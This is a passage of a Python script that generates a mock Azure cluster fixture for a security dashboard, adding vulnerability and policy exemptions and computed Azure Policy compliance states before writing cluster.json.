# A vulnerability finding exempted as mitigated: the ingress controller's nginx package, whose
# vulnerable path the WAF in front of it blocks ("Show exempted" on the Vulnerability tab).
ingress = next(r for r in resources if r["type"] == "Microsoft.Security/assessments"
               and r["properties"].get("metadata", {}).get("recommendationCategory") == "SoftwareUpdate"
               and r["properties"]["displayName"].startswith("mirror/ingress-nginx/controller:")
               and r["properties"]["additionalData"]["SoftwareName"] == NGINX[0][0])
exempted(ingress["name"])
standard_exemption("ingress behind WAF", ingress["name"], "mitigated", "2027-02-28T00:00:00.000Z",
                   "The WAF policy in front of the ingress blocks the vulnerable request path.", "2026-11-02T13:20:00.000Z")
resources.append({"id": f"/subscriptions/{SUB}/resourceGroups/{RG}/providers/Microsoft.Authorization/policyExemptions/aks-payments-privileged-debug",
                  "name": "aks-payments-privileged-debug", "type": "Microsoft.Authorization/policyExemptions",
                  "properties": {"policyAssignmentId": f"/subscriptions/{SUB}/providers/Microsoft.Authorization/policyAssignments/SecurityCenterBuiltIn",
                                 "policyDefinitionReferenceIds": ["privilegedContainersShouldBeAvoided"], "exemptionCategory": "Mitigated",
                                 "displayName": "Debug tools run privileged in kube-system",
                                 "description": "Break-glass debug pod, scaled to zero outside incidents",
                                 "metadata": {"reason": "Needed for node-level incident response; access is just-in-time"}},
                  "systemData": {"createdBy": "secops-oncall@contoso.com", "createdByType": "User", "createdAt": "2026-08-20T07:00:00.0000000Z",
                                 "lastModifiedBy": "secops-oncall@contoso.com", "lastModifiedByType": "User", "lastModifiedAt": "2026-08-20T07:00:00.0000000Z"}})

# ---------------------------------------------------------------- Azure Policy compliance states
# One state per policy-based recommendation's definition on the cluster, under the subscription's
# assignment of the Microsoft cloud security benchmark initiative (PolicyInsights PolicyState
# fields, as Resource Graph's policyresources holds them): how the dashboard finds the assignment
# and reference an Azure Policy exemption names. The Kubernetes-version check has none yet
# (states lag new assignments): its exemption falls back to Defender's, and the panel says so.
MCSB_SET = "/providers/Microsoft.Authorization/policySetDefinitions/1f3afdf9-d0c9-4c3d-847f-89da613e70a8"
MCSB_ASSIGNMENT = f"/subscriptions/{SUB}/providers/Microsoft.Authorization/policyAssignments/SecurityCenterBuiltIn"
def reference_id(name):
    words = re.sub(r"[^A-Za-z0-9 ]", " ", re.sub(r"^\[Preview\]\s*", "", name)).split()
    return (words[0].lower() + "".join(w[:1].upper() + w[1:] for w in words[1:]))[:64]
stated = {}
for r in resources:
    m = r["properties"].get("metadata", {}) if r["type"] == "Microsoft.Security/assessments" else {}
    definition = m.get("policyDefinitionId")
    if not definition or definition in stated or not (r["id"].startswith(CLUSTER + "/") or
                                                       r["properties"]["resourceDetails"].get("Id", "").startswith(CLUSTER)):
        continue
    if definition.endswith("/fb893a29-21bb-418c-a157-e99480ec364c"):
        continue
    stated[definition] = r
    codes = {(x["properties"]["status"]["code"], x["properties"]["status"].get("cause")) for x in resources
             if x["type"] == "Microsoft.Security/assessments" and x["properties"].get("metadata", {}).get("policyDefinitionId") == definition}
    state = ("NonCompliant" if any(c == "Unhealthy" for c, _ in codes)
             else "Exempt" if ("NotApplicable", "Exempt") in codes else "Compliant")
    resources.append({"id": f"{CLUSTER}/providers/Microsoft.PolicyInsights/policyStates/{guid('policy-state', definition)}",
                      "name": guid("policy-state", definition), "type": "Microsoft.PolicyInsights/policyStates",
                      "properties": {"resourceId": CLUSTER, "resourceType": "Microsoft.ContainerService/managedClusters",
                                     "policyAssignmentId": MCSB_ASSIGNMENT, "policyAssignmentName": "SecurityCenterBuiltIn",
                                     "policySetDefinitionId": MCSB_SET, "policyDefinitionId": definition,
                                     "policyDefinitionReferenceId": reference_id(m["displayName"]),
                                     "complianceState": state,
                                     "timestamp": "2026-11-27T22:10:00Z"}})

out = pathlib.Path(__file__).with_name("cluster.json")
out.write_text(json.dumps({"clusterId": CLUSTER, "resources": resources}, separators=(",", ":")) + "\n")
print(f"{out}: {len(resources)} resources, {len(alert_list)} alerts, {individual_images} image CVEs in {len(findings_by_package)} "
      f"individual recommendations on {len(IMAGES)} images, {node_count} node CVEs, "
      f"{sum(r['type'] == 'Microsoft.Security/assessments' for r in resources)} assessments, {out.stat().st_size} bytes")
